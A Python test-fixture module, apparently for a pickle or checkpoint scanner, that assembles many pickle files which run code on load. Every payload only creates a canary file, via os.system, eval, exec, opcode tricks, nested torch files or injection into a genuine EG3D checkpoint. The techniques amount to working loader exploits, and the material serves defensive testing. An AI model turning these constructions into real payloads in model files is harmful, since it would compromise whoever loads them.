"""Pickles that run code when Python's own reader opens them: each would create a canary file."""

from __future__ import annotations

from collections.abc import Callable
from functools import cache
from pathlib import Path

from eg3d_pickles import SOURCE, eg3d_pickle, tiny_eg3d
from pickle_assembly import (
    STOP,
    call,
    glob,
    inside_zip,
    legacy_file,
    nested,
    number,
    raw,
    sequence,
    stack_glob,
    table,
    text,
)

Payload = Callable[[Path], bytes]
EXTENSIONS = (
    ("os", "system", 0xF0),
    ("posix", "system", 0xF0F0),
    ("subprocess", "getoutput", 0xF0F0F0),
)


def shell(canary: Path) -> bytes:
    return text(f"touch {canary}")


def code(canary: Path) -> bytes:
    return text(f"open({str(canary)!r}, 'w').close()")


def system(canary: Path) -> bytes:
    return call(glob("os", "system"), shell(canary))


def _attribute(name: str, ending: Callable[[bytes], bytes]) -> Payload:
    """Give an object an attribute that is os.system, and let an instruction call it."""

    def made(canary: Path) -> bytes:
        target = glob("types", "SimpleNamespace") + b")\x81"
        target += table(**{name: glob("os", "system")}) + b"b"
        return target + ending(shell(canary))

    return made


def _lazy_exec(canary: Path) -> bytes:
    return call(glob("builtins", "map"), glob("builtins", "exec"), sequence(code(canary)))


def _through_getattr(canary: Path) -> bytes:
    module = call(glob("builtins", "__import__"), text("os"))
    return call(call(glob("builtins", "getattr"), module, text("system")), shell(canary))


def _through_importlib(canary: Path) -> bytes:
    module = call(glob("importlib", "import_module"), text("os"))
    return call(call(glob("operator", "attrgetter"), text("system")), module) + b"".join(
        [b"(", shell(canary), b"tR"]
    )


def _through_methodcaller(canary: Path) -> bytes:
    caller = call(glob("operator", "methodcaller"), text("system"), shell(canary))
    return call(caller, call(glob("builtins", "__import__"), text("os")))


def _touch(canary: Path) -> bytes:
    return call(
        stack_glob("pathlib", "Path.touch"), call(glob("pathlib", "PosixPath"), text(str(canary)))
    )


def _timed(canary: Path) -> bytes:
    clock = glob("time", "perf_counter")
    return call(glob("timeit", "timeit"), code(canary), text("pass"), clock, number(1))


_EXPRESSIONS: dict[str, Payload] = {
    "REDUCE os.system": system,
    "REDUCE posix.system": lambda c: call(glob("posix", "system"), shell(c)),
    "REDUCE eval": lambda c: call(glob("builtins", "eval"), code(c)),
    "REDUCE exec": lambda c: call(glob("builtins", "exec"), code(c)),
    "REDUCE eval by its name in Python 2": lambda c: call(glob("__builtin__", "eval"), code(c)),
    "REDUCE open": lambda c: call(glob("builtins", "open"), text(str(c)), text("w")),
    "REDUCE io.open": lambda c: call(glob("io", "open"), text(str(c)), text("w")),
    "REDUCE os.mkdir": lambda c: call(glob("os", "mkdir"), text(str(c))),
    "REDUCE subprocess": lambda c: call(
        glob("subprocess", "check_call"), sequence(text("touch"), text(str(c)))
    ),
    "REDUCE shutil": lambda c: call(glob("shutil", "copyfile"), text(__file__), text(str(c))),
    "REDUCE timeit": _timed,
    "REDUCE Path.touch": _touch,
    "REDUCE numpy's runstring": lambda c: call(
        glob("numpy.testing._private.utils", "runstring"), code(c), b"}"
    ),
    "REDUCE pickle.loads": lambda c: call(glob("pickle", "loads"), raw(system(c) + STOP)),
    "REDUCE through getattr": _through_getattr,
    "REDUCE through importlib": _through_importlib,
    "REDUCE through methodcaller": _through_methodcaller,
    "REDUCE through partial": lambda c: call(
        call(glob("functools", "partial"), glob("os", "system"), shell(c))
    ),
    "STACK_GLOBAL dotted, through pathlib": lambda c: call(
        stack_glob("pathlib", "os.system"), shell(c)
    ),
    "STACK_GLOBAL dotted, through torch": lambda c: call(
        stack_glob("torch.serialization", "os.system"), shell(c)
    ),
    "INST": lambda c: b"(" + shell(c) + b"ios\nsystem\n",
    "OBJ": lambda c: b"(" + glob("os", "system") + shell(c) + b"o",
    "NEWOBJ": lambda c: glob("builtins", "tuple") + _lazy_exec(c) + b"\x85\x81",
    "NEWOBJ_EX": lambda c: glob("builtins", "tuple") + _lazy_exec(c) + b"\x85}\x92",
    "NEWOBJ as a call": lambda c: call(
        glob("copyreg", "__newobj__"), glob("builtins", "tuple"), _lazy_exec(c)
    ),
    "BUILD": _attribute("__setstate__", lambda argument: argument + b"b"),
    "APPEND": _attribute("append", lambda argument: argument + b"a"),
    "APPENDS": _attribute("append", lambda argument: b"(" + argument + b"e"),
    "ADDITEMS": _attribute("add", lambda argument: b"(" + argument + b"\x90"),
    "EXT1": lambda c: b"\x82\xf0(" + shell(c) + b"tR",
    "EXT2": lambda c: b"\x83\xf0\xf0(" + shell(c) + b"tR",
    "EXT4": lambda c: b"\x84\xf0\xf0\xf0\x00(" + shell(c) + b"tR",
    "nested in a tensor's bytes": lambda c: nested(legacy_file(system(c))),
    "nested in place of the magic number": lambda c: nested(system(c) + STOP),
    "nested twice": lambda c: nested(legacy_file(nested(legacy_file(system(c))))),
}


def _start(name: str) -> bytes:
    # names of Python 2 are translated in the protocols of Python 2
    return b"\x80\x02" if "Python 2" in name else b"\x80\x04"


RUNS_CODE: dict[str, Payload] = {
    name: (lambda canary, made=made, name=name: _start(name) + made(canary) + STOP)
    for name, made in _EXPRESSIONS.items()
}
"""Each creates the canary when Python's own pickle opens it."""

RUNS_CODE_IN_TORCH: dict[str, Payload] = {
    "old torch file": lambda c: legacy_file(system(c)),
    "torch archive": lambda c: inside_zip(system(c) + STOP),
}
"""Each creates the canary when torch.load opens it without weights_only."""


@cache
def _genuine() -> bytes:
    return eg3d_pickle(tiny_eg3d(), protocol=2)


def inside_checkpoint(hostile: bytes) -> bytes:
    """Put an expression into a genuine checkpoint, where it leaves no trace in the result."""
    content = _genuine()
    assert content[:2] == b"\x80\x02"
    return b"\x80\x04" + table(loot=hostile) + b"0" + content[2:]


HIDDEN: dict[str, Payload] = {
    f"{name}, in a genuine checkpoint": (lambda canary, made=made: inside_checkpoint(made(canary)))
    for name, made in _EXPRESSIONS.items()
    if name in ("REDUCE os.system", "REDUCE eval", "INST", "OBJ", "NEWOBJ", "BUILD", "EXT1")
    or name.startswith(("nested in a tensor", "STACK_GLOBAL dotted"))
}


def with_source_text(canary: Path) -> bytes:
    """A genuine checkpoint whose stored source text, which EG3D's loader runs, is hostile."""
    command = f"open({str(canary)!r}, 'w').close()"
    assert len(command) < len(SOURCE)
    content = eg3d_pickle(tiny_eg3d())
    assert SOURCE.encode() in content
    return content.replace(SOURCE.encode(), command.ljust(len(SOURCE)).encode())
